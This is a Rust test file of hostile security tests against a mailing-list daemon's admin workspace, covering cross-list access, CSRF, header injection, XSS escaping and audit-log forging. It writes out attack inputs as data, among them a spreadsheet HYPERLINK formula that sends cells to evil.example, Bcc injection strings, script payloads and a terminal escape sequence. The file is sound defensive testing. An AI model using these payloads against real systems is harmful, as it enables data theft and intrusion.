//! A hostile review of the leader's workspace under `/admin` (issue 15),
//! against the real binary on loopback. The tests named `hostile_*` that
//! fail show a finding; those that say "(This held.)" record what was
//! tried and did not break.

mod common;

use common::admin::{call, call_to, csrf_of, enc, link_token, sign_in_as};
use common::Daemon;

const OWNER: &str = "projektledare@example.se";
const LIST: &str = "lokal-finansiering";
/// The second list, given its own owner by [`two_owners`].
const OTHER_LIST: &str = "partnerskap";
const OTHER_OWNER: &str = "annan-ansvarig@example.se";

fn sign_in(d: &mut Daemon) -> String {
    sign_in_as(d, OWNER)
}

/// A daemon whose two lists have different owners: `LIST` is `OWNER`'s,
/// `OTHER_LIST` is `OTHER_OWNER`'s. The lists' directory is returned to be
/// kept alive.
fn two_owners() -> (Daemon, tempfile::TempDir) {
    let lists = tempfile::tempdir().unwrap();
    for file in ["lokal-finansiering.toml", "partnerskap.toml"] {
        let text = std::fs::read_to_string(common::repo("lists").join(file)).unwrap();
        let text = if file.starts_with(OTHER_LIST) {
            text.replace(OWNER, OTHER_OWNER)
        } else {
            text
        };
        std::fs::write(lists.path().join(file), text).unwrap();
    }
    let mut d = Daemon::prepare("");
    let config = std::fs::read_to_string(d.config_path()).unwrap();
    let config: String = config
        .lines()
        .map(|l| {
            if l.starts_with("lists_dir") {
                format!("lists_dir = \"{}\"\n", lists.path().display())
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    std::fs::write(d.config_path(), config).unwrap();
    d.spawn();
    (d, lists)
}

// ---------------------------------------------------------------------
// Findings
// ---------------------------------------------------------------------

/// FINDING (medium): `POST /admin/lists/A/forget` refuses only when the
/// person is on a list the owner does *not* own; it never checks that the
/// person is on one the owner *does* own. So the owner of list A can
/// "forget" any address that has no subscriber record anywhere, and
/// `forget` is daemon-wide: it puts the address on the suppression list
/// (the owner of list B can then no longer import it), and erases its
/// queued mail, ignored-mail records, pending records (an owner's mailed
/// post awaiting approval is one, under the owner's address) and budgets,
/// whichever list they belong to. One list's owner acts on another's.
#[test]
fn hostile_an_owner_forgets_an_address_that_is_on_none_of_their_lists() {
    let (mut d, _lists) = two_owners();
    let victim = "ny-partner@example.org";
    let session = sign_in(&mut d);
    let csrf = csrf_of(&call(&d, "GET", "/admin", Some(&session), None).body);
    let r = call(
        &d,
        "POST",
        &format!("/admin/lists/{LIST}/forget"),
        Some(&session),
        Some(&format!("csrf={csrf}&email={}", enc(victim))),
    );
    // And the other list's owner can still take them in.
    let csv = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(csv.path(), format!("email,name\n{victim},Ny Partner\n")).unwrap();
    let out = d.cli(&[
        "import",
        OTHER_LIST,
        csv.path().to_str().unwrap(),
        "--consent",
        "signed the partnership agreement",
    ]);
    let said =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        d.status_of(OTHER_LIST, victim).as_deref(),
        Some("confirmed"),
        "list B's import was blocked by list A's owner (who got {}): {said}",
        r.status
    );
    // The owner of LIST has no business with someone who is not on LIST.
    assert_ne!(
        r.status, 200,
        "forgot an address that is on none of the owner's lists: {}",
        r.body
    );
}

/// FINDING (low): the workspace's Logg page shows every owner the entries
/// that "name no list", and a forget names none: so the owner of list A
/// reads that the owner of list B (by address) erased someone, when, and
/// that `cli (user …)` took backups to which paths.
#[test]
fn hostile_the_log_page_shows_one_owner_another_owners_forget() {
    let (mut d, _lists) = two_owners();
    d.cli_ok(&["add", OTHER_LIST, "gammal@example.org", "--consent", "test"]);
    d.wait_mails(1);
    // The other owner forgets someone on their own list.
    let other = sign_in_as(&mut d, OTHER_OWNER);
    let csrf = csrf_of(&call(&d, "GET", "/admin", Some(&other), None).body);
    let r = call(
        &d,
        "POST",
        &format!("/admin/lists/{OTHER_LIST}/forget"),
        Some(&other),
        Some(&format!("csrf={csrf}&email=gammal%40example.org")),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let backup = d.dir.path().join("hemlig-backup-katalog");
    d.cli_ok(&["backup", backup.to_str().unwrap()]);
    // The first list's owner looks at their log.
    let mine = sign_in(&mut d);
    let page = call(&d, "GET", "/admin/log", Some(&mine), None);
    assert_eq!(page.status, 200);
    assert!(
        !page.body.contains(OTHER_OWNER),
        "another list's owner, and what they did, on this owner's log: {}",
        page.body
    );
    assert!(
        !page.body.contains("hemlig-backup-katalog"),
        "the server's backup path on an owner's log: {}",
        page.body
    );
}

/// FINDING (medium): the consent text of a workspace import goes into the
/// audit entry's detail with its line breaks, and `utskick audit` prints
/// details raw: a signed-in owner writes lines into the administrator's
/// audit output that look like other entries (here one that says root
/// forgot someone), and terminal escapes (here one that sets the window
/// title). The `where` field of a queued newsletter is split on `,` and
/// LF only, so a CR reaches the queue entry's detail the same way.
#[test]
fn hostile_an_import_consent_forges_lines_in_the_cli_audit_log() {
    let mut d = Daemon::start("");
    let session = sign_in(&mut d);
    let csrf = csrf_of(&call(&d, "GET", "/admin", Some(&session), None).body);
    let consent = "asked\x1b]0;utskick\x07\nFORGED 2026-12-01 03:00  cli (user root)  forget  a person (address not kept)";
    let form = format!(
        "csrf={csrf}&step=import&consent={}&csv={}",
        enc(consent),
        enc("email,name\nnisse@example.org,Nisse\n")
    );
    let r = call(
        &d,
        "POST",
        &format!("/admin/lists/{LIST}/import"),
        Some(&session),
        Some(&form),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(
        d.status_of(LIST, "nisse@example.org").as_deref(),
        Some("confirmed")
    );
    let audit = d.cli_ok(&["audit"]);
    assert!(
        !audit.lines().any(|l| l.starts_with("FORGED")) && !audit.contains('\x1b'),
        "an owner wrote a line of their own (and a terminal escape) into `utskick audit`:\n{audit:?}"
    );
}

/// The CSV export against formulas behind a leading TAB or CR (which it
/// does not prefix itself): names and attributes are trimmed when stored,
/// so the `=` comes first and is prefixed. (This held.)
#[test]
fn hostile_a_formula_behind_a_tab_is_still_defused_in_the_csv_export() {
    let mut d = Daemon::start("");
    let session = sign_in(&mut d);
    let formula = "\t=HYPERLINK(\"https://evil.example/?\"&A2,\"Klicka\")";
    d.cli_ok(&[
        "add",
        LIST,
        "formel@example.org",
        "--name",
        formula,
        "--attr",
        &format!("organisation={formula}"),
        "--consent",
        "test",
    ]);
    let csv = call(
        &d,
        "GET",
        &format!("/admin/lists/{LIST}/subscribers.csv"),
        Some(&session),
        None,
    );
    assert_eq!(csv.status, 200);
    let row = csv
        .body
        .lines()
        .find(|l| l.contains("formel@example.org"))
        .expect("the row");
    for cell in row.split(',') {
        let cell = cell.trim_start_matches('"');
        assert!(
            !(cell.starts_with('\t') || cell.starts_with('\r')) || cell.contains("'="),
            "a formula behind a TAB in the export: {row:?}"
        );
    }
}

// ---------------------------------------------------------------------
// What held
// ---------------------------------------------------------------------

/// Every POST route under `/admin`, with another session's csrf (of the
/// same owner), with none, and with the right one in the query string
/// instead of the body: 403, and nothing changed. (This held.)
#[test]
fn hostile_every_post_route_refuses_another_sessions_csrf() {
    let mut d = Daemon::start("");
    d.cli_ok(&["add", LIST, "kvar@example.org", "--consent", "test"]);
    d.wait_mails(1);
    let one = sign_in(&mut d);
    let two = sign_in(&mut d);
    let csrf_one = csrf_of(&call(&d, "GET", "/admin", Some(&one), None).body);
    let csrf_two = csrf_of(&call(&d, "GET", "/admin", Some(&two), None).body);
    assert_ne!(csrf_one, csrf_two);
    let md = enc("# Hej\n\nText\n");
    let routes = [
        "/admin/logout".to_string(),
        format!("/admin/lists/{LIST}/add"),
        format!("/admin/lists/{LIST}/remove"),
        format!("/admin/lists/{LIST}/forget"),
        format!("/admin/lists/{LIST}/import"),
        format!("/admin/lists/{OTHER_LIST}/approve"),
        format!("/admin/lists/{OTHER_LIST}/reject"),
        format!("/admin/lists/{LIST}/campaigns"),
        "/admin/campaigns/1/steer".to_string(),
    ];
    let fields = format!(
        "email=kvar%40example.org&consent=x&markdown={md}&action=cancel&step=import&csv=email%0Ay%40example.org"
    );
    for route in &routes {
        for form in [
            format!("csrf={csrf_two}&{fields}"),
            fields.clone(),
            format!("csrf=&{fields}"),
            format!("csrf={}&{fields}", csrf_one.to_uppercase()),
            format!("csrf[]={csrf_one}&{fields}"),
        ] {
            let r = call(&d, "POST", route, Some(&one), Some(&form));
            assert_eq!(r.status, 403, "{route} {form}: {}", r.body);
        }
        let r = call(
            &d,
            "POST",
            &format!("{route}?csrf={csrf_one}"),
            Some(&one),
            Some(&fields),
        );
        assert_eq!(r.status, 403, "{route} with csrf in the query");
        for method in ["PUT", "DELETE", "PATCH"] {
            let r = call(&d, method, route, Some(&one), Some(&fields));
            assert!(
                r.status == 403 || r.status == 405,
                "{method} {route}: {}",
                r.status
            );
        }
    }
    assert_eq!(
        d.status_of(LIST, "kvar@example.org").as_deref(),
        Some("confirmed")
    );
    assert_eq!(
        d.cli_ok(&["campaigns"]).lines().count(),
        1,
        "nothing queued"
    );
    assert_eq!(call(&d, "GET", "/admin", Some(&one), None).status, 200);
    // Neither the session id nor the csrf token reaches the log, and the
    // session id is nowhere in the data directory (only its hash).
    let log = d.log();
    for secret in [&one, &two, &csrf_one, &csrf_two] {
        assert!(!log.contains(secret.as_str()), "a secret in the log");
    }
    let mut dirs = vec![d.data()];
    while let Some(dir) = dirs.pop() {
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                dirs.push(p);
            } else if let Ok(bytes) = std::fs::read(&p) {
                let text = String::from_utf8_lossy(&bytes);
                for secret in [&one, &two] {
                    assert!(!text.contains(secret.as_str()), "session id in {p:?}");
                }
            }
        }
    }
}

/// Path and method tricks without a session, and with one for the wrong
/// list: nothing is served that the guard would not serve. (This held.)
#[test]
fn hostile_path_tricks_and_headers_do_not_get_past_the_guard() {
    let mut d = Daemon::start("");
    for path in [
        "/admin/../admin/campaigns",
        "/admin/login/../campaigns",
        "/admin/login/..%2fcampaigns",
        "/admin/login/%2e%2e/campaigns",
        "//admin/campaigns",
        "/ADMIN/campaigns",
        "/Admin",
        "/admin;x/campaigns",
        "/admin/campaigns;x",
        "/admin/%63ampaigns",
        "/admin/campaigns/",
        "/admin/./campaigns",
        "/admin/log?x=/admin/login/",
        "/admin/lists/lokal-finansiering/subscribers.csv",
        "/admin/report.csv",
    ] {
        for method in ["GET", "HEAD"] {
            let r = call(&d, method, path, None, None);
            assert!(
                matches!(r.status, 303 | 400 | 404 | 410),
                "{method} {path}: {} {}",
                r.status,
                r.body
            );
            assert!(!r.body.contains("Logga ut"), "{path}: {}", r.body);
        }
    }
    // A forged cookie, a cookie with the attribute tricks, two cookies.
    for cookie in [
        "utskick_session=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "utskick_session=\"\"; utskick_session=x",
    ] {
        let r = call_to(
            &d.http,
            "GET",
            "/admin",
            None,
            None,
            &format!("Cookie: {cookie}\r\n"),
        );
        assert_eq!(r.status, 303);
    }
    // The session cookie's flags; a second cookie header before ours.
    let session = sign_in(&mut d);
    let r = call_to(
        &d.http,
        "GET",
        "/admin",
        None,
        None,
        &format!("Cookie: other=1; utskick_session={session}\r\n"),
    );
    assert_eq!(r.status, 200);
    assert_eq!(r.header("cache-control").as_deref(), Some("no-store"));
    // Another list's pages, by id, with a valid session: not there.
    for path in [
        "/admin/lists/finns-inte/subscribers",
        "/admin/lists/finns-inte/subscribers.csv",
        "/admin/lists/..%2fpartnerskap/subscribers",
    ] {
        let r = call(&d, "GET", path, Some(&session), None);
        assert_eq!(r.status, 404, "{path}");
    }
}

/// allow_from is the socket's peer only: X-Forwarded-For, X-Real-IP and
/// Forwarded from an allowed address change nothing. (This held.)
#[test]
fn hostile_forwarded_headers_do_not_open_allow_from() {
    let d = Daemon::start("[admin]\nallow_from = [\"192.0.2.0/24\"]\n");
    for header in [
        "X-Forwarded-For: 192.0.2.7\r\n",
        "X-Real-IP: 192.0.2.7\r\n",
        "Forwarded: for=192.0.2.7\r\n",
        "X-Forwarded-For: 127.0.0.1, 192.0.2.7\r\n",
    ] {
        for (method, path) in [
            ("GET", "/admin/login"),
            ("POST", "/admin/login"),
            (
                "GET",
                "/admin/login/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            ),
            ("GET", "/admin/report.svg"),
        ] {
            let form = (method == "POST").then_some("email=projektledare%40example.se");
            let r = call_to(&d.http, method, path, None, form, header);
            assert_eq!(r.status, 403, "{header} {method} {path}");
        }
    }
}

/// The login form: header injection, lists of addresses, quoted local
/// parts and look-alike case get no link to anyone but the owner, and the
/// answer is the same, byte for byte, for owner and stranger. (This held.)
#[test]
fn hostile_the_login_form_mails_the_owner_only() {
    let mut d = Daemon::start("");
    let page = |d: &Daemon, email: &str| {
        call(
            d,
            "POST",
            "/admin/login",
            None,
            Some(&format!("email={}", enc(email))),
        )
    };
    let owner = page(&d, OWNER);
    let mails = d.wait_mails(1);
    assert_eq!(mails[0].to, OWNER);
    let stranger = page(&d, "stranger@example.org");
    assert_eq!(owner.status, stranger.status);
    assert_eq!(owner.body, stranger.body);
    let strip_date = |h: &str| {
        h.lines()
            .filter(|l| !l.to_ascii_lowercase().starts_with("date:"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(strip_date(&owner.head), strip_date(&stranger.head));
    for evil in [
        "projektledare@example.se\r\nBcc: evil@example.org",
        "projektledare@example.se\nBcc: evil@example.org",
        "projektledare@example.se, evil@example.org",
        "evil@example.org, projektledare@example.se",
        "\"projektledare@example.se\"@evil.example.org",
        "projektledare@example.se@evil.example.org",
        "evil@example.org <projektledare@example.se>",
    ] {
        let r = page(&d, evil);
        assert_eq!(r.status, 200, "{evil:?}");
    }
    for m in d.fresh_mails() {
        assert_eq!(m.to, OWNER, "{:?}", m.subject);
        assert!(!m.raw.to_lowercase().contains("evil"), "{}", m.raw);
    }
}

/// A subject with CR/LF (YAML escapes in the front matter, a CR in the
/// subject field) in the test copy: one Subject header, no injected Bcc,
/// and the copy goes to the owner only. (This held.)
#[test]
fn hostile_the_test_copys_subject_injects_no_header() {
    let mut d = Daemon::start("");
    let session = sign_in(&mut d);
    let csrf = csrf_of(&call(&d, "GET", "/admin", Some(&session), None).body);
    let path = format!("/admin/lists/{LIST}/campaigns");
    for form in [
        format!(
            "csrf={csrf}&action=test&markdown={}",
            enc("---\nsubject: \"Hej\\r\\nBcc: evil@example.org\"\n---\nText\n")
        ),
        format!(
            "csrf={csrf}&action=test&subject={}&markdown={}",
            enc("Hej\rBcc: evil@example.org"),
            enc("Text\n")
        ),
    ] {
        let r = call(&d, "POST", &path, Some(&session), Some(&form));
        if r.status != 200 {
            // Refused outright is as good.
            assert_eq!(r.status, 422, "{}", r.body);
            continue;
        }
        let mails = d.wait_mails(1);
        assert_eq!(mails[0].to, OWNER);
        let head = &mails[0].raw[..mails[0].raw.find("\r\n\r\n").unwrap()];
        assert!(
            !head
                .lines()
                .any(|l| l.to_ascii_lowercase().starts_with("bcc:")),
            "{head}"
        );
    }
}

/// The owner of list A against list B through the workspace: B's pages,
/// export, person page, approvals, report, and every change (add, remove,
/// forget, import, approve, reject, queue, test copy, steering B's
/// campaign by its number) are refused, and B is unchanged. (This held.)
#[test]
fn hostile_one_lists_owner_cannot_act_on_another_list() {
    let (mut d, _lists) = two_owners();
    d.cli_ok(&[
        "add",
        OTHER_LIST,
        "hemlig@example.org",
        "--name",
        "Hemlig Partner",
        "--consent",
        "test",
    ]);
    d.wait_mails(1);
    // A closed list's request, waiting for B's owner.
    let r = call(
        &d,
        "POST",
        &format!("/lists/{OTHER_LIST}/subscribe"),
        None,
        Some("email=vantar%40example.org&name=V&consent=yes"),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    d.wait_mails(1); // the confirmation
    let md = d.dir.path().join("b.md");
    std::fs::write(&md, "---\nsubject: B:s brev\n---\nHej\n").unwrap();
    d.cli_ok(&[
        "queue",
        OTHER_LIST,
        md.to_str().unwrap(),
        "--at",
        "2030-01-01T10:00:00Z",
    ]);
    let campaigns = d.cli_ok(&["campaigns"]);
    let cid = campaigns
        .lines()
        .nth(1)
        .and_then(|l| l.split_whitespace().next())
        .expect("B's campaign")
        .to_string();
    let before = d.cli_ok(&["campaigns"]);

    let session = sign_in(&mut d);
    let csrf = csrf_of(&call(&d, "GET", "/admin", Some(&session), None).body);
    for path in [
        format!("/admin/lists/{OTHER_LIST}/subscribers"),
        format!("/admin/lists/{OTHER_LIST}/subscribers.csv"),
        format!("/admin/lists/{OTHER_LIST}/person?email=hemlig%40example.org"),
        format!("/admin/lists/{OTHER_LIST}/approvals"),
        format!("/admin/lists/{OTHER_LIST}/campaigns"),
    ] {
        let r = call(&d, "GET", &path, Some(&session), None);
        assert_eq!(r.status, 404, "{path}");
        assert!(!r.body.contains("hemlig@example.org"), "{path}");
    }
    // Through A's own pages.
    for path in [
        format!("/admin/lists/{LIST}/person?email=hemlig%40example.org"),
        format!("/admin/report?list={OTHER_LIST}"),
        format!("/admin/report.csv?list={OTHER_LIST}"),
        format!("/admin/report.svg?list={OTHER_LIST}"),
        "/admin/campaigns".to_string(),
        "/admin".to_string(),
        "/admin/log".to_string(),
    ] {
        let r = call(&d, "GET", &path, Some(&session), None);
        // (The person page repeats the address it was asked about.)
        for secret in [
            "Hemlig Partner",
            "B:s brev",
            "Partnerskapet",
            "partnerskap:",
        ] {
            assert!(
                !r.body.contains(secret),
                "{path} shows {secret}: {}",
                r.body
            );
        }
    }
    let fields = "email=hemlig%40example.org&consent=x&markdown=Hej&subject=X&action=test&step=import&csv=email%0Ahemlig%40example.org";
    for path in [
        "add",
        "remove",
        "forget",
        "import",
        "approve",
        "reject",
        "campaigns",
    ] {
        let r = call(
            &d,
            "POST",
            &format!("/admin/lists/{OTHER_LIST}/{path}"),
            Some(&session),
            Some(&format!("csrf={csrf}&{fields}")),
        );
        assert_eq!(r.status, 404, "{path}: {}", r.body);
    }
    for action in ["pause", "cancel"] {
        let r = call(
            &d,
            "POST",
            &format!("/admin/campaigns/{cid}/steer"),
            Some(&session),
            Some(&format!("csrf={csrf}&action={action}")),
        );
        assert_eq!(r.status, 404, "{action}");
    }
    // Forget from A's page of someone who is also on B: refused.
    d.cli_ok(&["add", LIST, "hemlig@example.org", "--consent", "test"]);
    let r = call(
        &d,
        "POST",
        &format!("/admin/lists/{LIST}/forget"),
        Some(&session),
        Some(&format!("csrf={csrf}&email=hemlig%40example.org")),
    );
    assert_eq!(r.status, 422, "{}", r.body);
    assert_eq!(
        d.status_of(OTHER_LIST, "hemlig@example.org").as_deref(),
        Some("confirmed")
    );
    assert_eq!(d.cli_ok(&["campaigns"]), before, "B's campaign untouched");
    assert!(
        d.fresh_mails()
            .iter()
            .all(|m| m.to != OWNER || !m.subject.contains("B:s")),
        "no test copy of B's"
    );
}

/// Names, attributes, a campaign subject and an address with quotes and
/// markup, on every page that shows them: escaped. (This held.)
#[test]
fn hostile_markup_in_names_subjects_and_addresses_is_escaped() {
    let mut d = Daemon::start("");
    let evil = "<script>alert(1)</script>\"><img src=x onerror=alert(2)>";
    d.cli_ok(&[
        "add",
        LIST,
        "o'hara+{x}@example.org",
        "--name",
        evil,
        "--attr",
        &format!("organisation={evil}"),
        "--attr",
        "region=javascript:alert(3)",
        "--consent",
        evil,
    ]);
    d.wait_mails(1);
    let md = d.dir.path().join("x.md");
    std::fs::write(
        &md,
        format!("---\nsubject: '{}'\n---\nHej\n", evil.replace('\'', "''")),
    )
    .unwrap();
    d.cli_ok(&[
        "queue",
        LIST,
        md.to_str().unwrap(),
        "--at",
        "2030-01-01T10:00:00Z",
    ]);
    let session = sign_in(&mut d);
    let q = enc("o'hara+{x}@example.org");
    for path in [
        "/admin".to_string(),
        format!("/admin/lists/{LIST}/subscribers"),
        format!("/admin/lists/{LIST}/subscribers?q={}", enc(evil)),
        format!("/admin/lists/{LIST}/person?email={q}"),
        format!("/admin/lists/{LIST}/person?email={q}&confirm=forget"),
        format!("/admin/lists/{LIST}/person?email={}", enc(evil)),
        "/admin/campaigns".to_string(),
        "/admin/log".to_string(),
    ] {
        let r = call(&d, "GET", &path, Some(&session), None);
        for raw in [
            "<script>alert",
            "<img src=x",
            "onerror=alert(2)>",
            "href=\"javascript:",
        ] {
            assert!(
                !r.body.contains(raw),
                "{path}: {raw} unescaped:\n{}",
                r.body
            );
        }
    }
    // The newsletter form's refusals and preview, and the import preview,
    // echo what was typed.
    let csrf = csrf_of(&call(&d, "GET", "/admin", Some(&session), None).body);
    for form in [
        format!(
            "csrf={csrf}&action=preview&subject={}&markdown={}&where={}",
            enc(evil),
            enc(&format!("Hej {{{{{evil}}}}}\n")),
            enc(&format!("region={evil}"))
        ),
        format!(
            "csrf={csrf}&action=preview&markdown={}&at={}",
            enc("Hej\n"),
            enc(evil)
        ),
        format!(
            "csrf={csrf}&action=queue&markdown={}&where={}",
            enc("Hej\n"),
            enc(evil)
        ),
    ] {
        let r = call(
            &d,
            "POST",
            &format!("/admin/lists/{LIST}/campaigns"),
            Some(&session),
            Some(&form),
        );
        for raw in ["<script>alert", "<img src=x"] {
            assert!(!r.body.contains(raw), "new: {raw} unescaped:\n{}", r.body);
        }
    }
    let r = call(
        &d,
        "POST",
        &format!("/admin/lists/{LIST}/import"),
        Some(&session),
        Some(&format!(
            "csrf={csrf}&consent={}&csv={}",
            enc(evil),
            enc(&format!(
                "email,name,{evil}\n{evil},{evil}\nx@example.org,{evil}\n"
            ))
        )),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    for raw in ["<script>alert", "<img src=x"] {
        assert!(
            !r.body.contains(raw),
            "import: {raw} unescaped:\n{}",
            r.body
        );
    }
}

/// Exploratory: the login answer's time for the owner's address and a
/// stranger's, interleaved (stranger first), five each per daemon (the owner's hourly
/// budget), over several daemons. Prints the medians; run by hand with
/// `--ignored --nocapture`.
#[test]
#[ignore]
fn hostile_timing_of_the_login_answer() {
    let mut owner = Vec::new();
    let mut stranger = Vec::new();
    for _ in 0..6 {
        let d = Daemon::start("");
        // Warm up the connection path once.
        call(&d, "GET", "/admin/login", None, None);
        for i in 0..5 {
            for (who, out) in [
                (format!("s{i}@example.se"), &mut stranger),
                (OWNER.to_string(), &mut owner),
            ] {
                let t = std::time::Instant::now();
                let r = call(
                    &d,
                    "POST",
                    "/admin/login",
                    None,
                    Some(&format!("email={}", enc(&who))),
                );
                out.push(t.elapsed().as_micros());
                assert_eq!(r.status, 200);
            }
        }
    }
    owner.sort();
    stranger.sort();
    eprintln!(
        "owner median {}us p25 {} p75 {}; stranger median {}us p25 {} p75 {}",
        owner[owner.len() / 2],
        owner[owner.len() / 4],
        owner[owner.len() * 3 / 4],
        stranger[stranger.len() / 2],
        stranger[stranger.len() / 4],
        stranger[stranger.len() * 3 / 4]
    );
}

/// One link, used by many at once, starts one session; a link of one
/// daemon is nothing at another (its own data_dir); a link with a changed
/// letter, upper case, or padding is nothing. (This held.)
#[test]
fn hostile_a_link_starts_one_session_once_and_only_at_its_daemon() {
    let mut d = Daemon::start("");
    let other = Daemon::start("");
    let r = call(
        &d,
        "POST",
        "/admin/login",
        None,
        Some(&format!("email={}", enc(OWNER))),
    );
    assert_eq!(r.status, 200);
    let token = link_token(&d.wait_mails(1)[0]);
    assert_eq!(
        call(&other, "POST", &format!("/admin/login/{token}"), None, None).status,
        410
    );
    let mut flipped = token.clone().into_bytes();
    flipped[10] = if flipped[10] == b'a' { b'b' } else { b'a' };
    for bad in [
        String::from_utf8(flipped).unwrap(),
        token.to_uppercase(),
        format!("{token}%20"),
        format!("%20{token}"),
        format!("{token}a"),
        token[..51].to_string(),
    ] {
        let r = call(&d, "POST", &format!("/admin/login/{bad}"), None, None);
        assert_eq!(r.status, 410, "{bad}");
        assert!(r.header("set-cookie").is_none());
    }
    let addr = d.http.clone();
    let threads: Vec<_> = (0..8)
        .map(|_| {
            let addr = addr.clone();
            let path = format!("/admin/login/{token}");
            std::thread::spawn(move || call_to(&addr, "POST", &path, None, None, "").status)
        })
        .collect();
    let statuses: Vec<u16> = threads.into_iter().map(|t| t.join().unwrap()).collect();
    assert!(!d.log().contains(&token), "the token reached the log");
    assert_eq!(
        statuses.iter().filter(|s| **s == 303).count(),
        1,
        "{statuses:?}"
    );
}

/// On a dual-stack listener an IPv4 client arrives as `::ffff:a.b.c.d`:
/// allow_from's IPv4 networks still match it, and do not match `::1`.
/// (This held.)
#[test]
fn hostile_allow_from_on_a_dual_stack_listener() {
    if std::net::TcpListener::bind("[::]:0").is_err() {
        eprintln!("no IPv6 here; skipped");
        return;
    }
    let d = Daemon::start("[http]\nlisten = \"[::]:0\"\n[admin]\nallow_from = [\"127.0.0.0/8\"]\n");
    let port = d.http.rsplit(':').next().unwrap().to_string();
    let v4 = format!("127.0.0.1:{port}");
    let v6 = format!("[::1]:{port}");
    assert_eq!(
        call_to(&v4, "GET", "/admin/login", None, None, "").status,
        200
    );
    assert_eq!(
        call_to(&v6, "GET", "/admin/login", None, None, "").status,
        403
    );
    drop(d);
    let d = Daemon::start("[http]\nlisten = \"[::]:0\"\n[admin]\nallow_from = [\"::1/128\"]\n");
    let port = d.http.rsplit(':').next().unwrap().to_string();
    let v4 = format!("127.0.0.1:{port}");
    let v6 = format!("[::1]:{port}");
    assert_eq!(
        call_to(&v4, "GET", "/admin/login", None, None, "").status,
        403
    );
    assert_eq!(
        call_to(&v6, "GET", "/admin/login", None, None, "").status,
        200
    );
}

/// FINDING (low–medium): the Logg page hides an entry only when its detail
/// begins with a list that is configured now and that the owner does not
/// own. When a list is taken out of the configuration (renamed, retired),
/// its whole history, with the subscribers' addresses, consent texts and
/// subjects, is shown to every owner of every other list.
#[test]
fn hostile_a_retired_lists_audit_history_is_shown_to_every_owner() {
    let (mut d, lists) = two_owners();
    d.cli_ok(&[
        "add",
        OTHER_LIST,
        "hemlig@example.org",
        "--consent",
        "met at the board meeting",
    ]);
    d.wait_mails(1);
    // The other list is retired: its file goes, its data stays.
    d.terminate();
    std::fs::remove_file(lists.path().join(format!("{OTHER_LIST}.toml"))).unwrap();
    d.spawn();
    let session = sign_in(&mut d);
    let page = call(&d, "GET", "/admin/log", Some(&session), None);
    assert_eq!(page.status, 200);
    assert!(
        !page.body.contains("hemlig@example.org"),
        "another (retired) list's subscriber on this owner's log: {}",
        page.body
    );
}
